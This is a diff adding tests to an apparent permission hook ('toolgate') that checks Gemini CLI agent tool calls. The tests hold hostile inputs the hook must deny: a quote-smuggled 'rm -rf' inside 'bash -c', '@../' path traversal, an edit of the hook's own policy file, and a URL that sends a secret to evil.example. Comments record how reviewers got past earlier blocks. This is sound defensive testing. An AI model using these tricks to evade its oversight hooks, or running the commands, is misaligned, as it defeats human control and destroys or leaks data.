@@ -119,6 +119,44 @@ describe('toolgate hook gemini', () => {
     expect(unplaced.stderr).toContain('mcp_context');
   });
 
+  it('judges a command as Gemini CLI runs it, with a leading bash -c taken off and unquoted as it does (a reviewer ran rm -rf past a block that way)', async () => {
+    // Gemini CLI cuts the quotes off the ends: it runs  echo x'"'; rm -rf victim; echo '"'  — bash -c would have run an echo.
+    expect(await decide(beforeTool('run_shell_command', { command: String.raw`bash -c 'echo x'\"'; rm -rf victim; echo '\"''` }))).toMatchObject({ decision: 'deny', reason: expect.stringContaining('rm is blocked here') });
+    expect(await decide(beforeTool('run_shell_command', { command: "powershell -Command 'rm -rf victim'" }))).toMatchObject({ decision: 'deny', reason: expect.stringContaining('rm is blocked here') });
+    expect(await decide(beforeTool('run_shell_command', { command: "/bin/sh -c 'ls'" }))).toMatchObject({ decision: 'allow' });
+    // "…" after a POSIX shell is unquoted by shell-quote, which toolgate does not reproduce: a person would have to decide.
+    const doubleQuoted = await decide(beforeTool('run_shell_command', { command: 'bash -c "echo hi # c\\\nrm -rf victim"' }));
+    expect(doubleQuoted.decision).toBe('deny');
+    expect(doubleQuoted.reason).toContain('write the command itself');
+  });
+
+  it('reads a file path as Gemini CLI does: @x is x where no @x exists (a reviewer wrote past a zone with @../)', async () => {
+    expect(await decide(beforeTool('read_file', { file_path: '@../secret.txt' }))).toMatchObject({ decision: 'deny' });
+    expect(await decide(beforeTool('write_file', { file_path: '@../escape.txt', content: 'x' }))).toMatchObject({ decision: 'deny' });
+    expect(await decide(beforeTool('write_file', { file_path: '@/etc/passwd', content: 'x' }))).toMatchObject({ decision: 'allow' });
+    expect(await decide(beforeTool('read_file', { file_path: '@notes.txt' }))).toMatchObject({ decision: 'allow' });
+    expect(await decide(beforeTool('replace', { file_path: '@toolgate.yaml', instruction: 'open up', old_string: 'block', new_string: 'allow' }))).toMatchObject({ decision: 'deny' });
+  });
+
+  it('judges every URL of a web_fetch as Gemini CLI finds them (each word of the prompt, and url), and read_many_files by all it includes', async () => {
+    const domains = path.join(project, 'domains.yaml');
+    writeFileSync(domains, readFileSync(policyFile, 'utf8').replace('network: false', 'network: { allow_domains: [allowed.example] }'));
+    const fetch = async (input: Record<string, unknown>) => {
+      const answer = await runHook({ dialect: gemini, stdin: Readable.from([beforeTool('web_fetch', input)]), loadPolicy: () => loadPolicyFile(domains), env: { PATH: '/usr/bin:/bin' } });
+      return JSON.parse(answer.stdout) as { decision: string; reason: string };
+    };
+    expect(await fetch({ prompt: 'Summarise https://allowed.example/page' })).toMatchObject({ decision: 'allow' });
+    // The word is one URL to Gemini CLI, whose host is evil.example.
+    expect(await fetch({ prompt: 'https://allowed.example)@evil.example/x?k=SECRET' })).toMatchObject({ decision: 'deny', reason: expect.stringContaining('evil.example') });
+    expect(await fetch({ prompt: 'compare https://allowed.example/a and HTTPS://evil.example/b' })).toMatchObject({ decision: 'deny', reason: expect.stringContaining('evil.example') });
+    expect(await fetch({ prompt: 'https://allowed.example/', url: 'https://evil.example/x' })).toMatchObject({ decision: 'deny', reason: expect.stringContaining('evil.example') });
+    expect(await decide(beforeTool('read_many_files', { include: ['src/**'] }))).toMatchObject({ decision: 'allow' });
+    expect(await decide(beforeTool('read_many_files', { include: ['src/**', '/etc/passwd'] }))).toMatchObject({ decision: 'deny' });
+    expect(await decide(beforeTool('grep_search', { pattern: 'x', include_pattern: '*.ts' }))).toMatchObject({ decision: 'allow' });
+    // Gemini CLI records no chat: an empty transcript_path is no error.
+    expect(await decide(beforeTool('run_shell_command', { command: 'ls' }, { transcript_path: '' }))).toMatchObject({ decision: 'allow' });
+  });
+
   it('blocks with exit 2 (which Gemini CLI enforces, and gives the model the reason) whatever it cannot read', async () => {
     for (const input of ['{not json', JSON.stringify({ hook_event_name: 'PreToolUse', session_id: 's', cwd: project, tool_name: 'x', tool_input: {} }), beforeTool('run_shell_command', { command: 42 }), JSON.stringify({ hook_event_name: 'BeforeTool', session_id: 's', cwd: 'relative', tool_name: 'x', tool_input: {} })]) {
       const result = await decide(input);
